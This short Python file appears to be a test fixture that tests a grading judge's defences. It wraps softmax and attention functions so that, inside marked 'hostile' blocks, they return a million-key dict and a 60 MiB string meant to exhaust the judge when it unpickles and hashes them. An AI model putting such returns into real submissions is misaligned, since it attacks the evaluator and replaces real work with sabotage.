# Written to attack the judge: the block between the "hostile" markers is the attack (docs/judge.md).
# Return values that are small to describe and large to receive: a dict with a million keys (2 million
# opcodes to unpickle and hash) and a string of 60 MiB (under the 64 MiB frame limit).
_reference_softmax = softmax
_reference_attention = scaled_dot_product_attention


def softmax(x, dim=-1):
    # >>> hostile
    return {i: 0.0 for i in range(1_000_000)}
    # <<< hostile
    return _reference_softmax(x, dim)


def scaled_dot_product_attention(query, key, value, mask=None):
    # >>> hostile
    return "x" * (60 << 20)
    # <<< hostile
    return _reference_attention(query, key, value, mask)
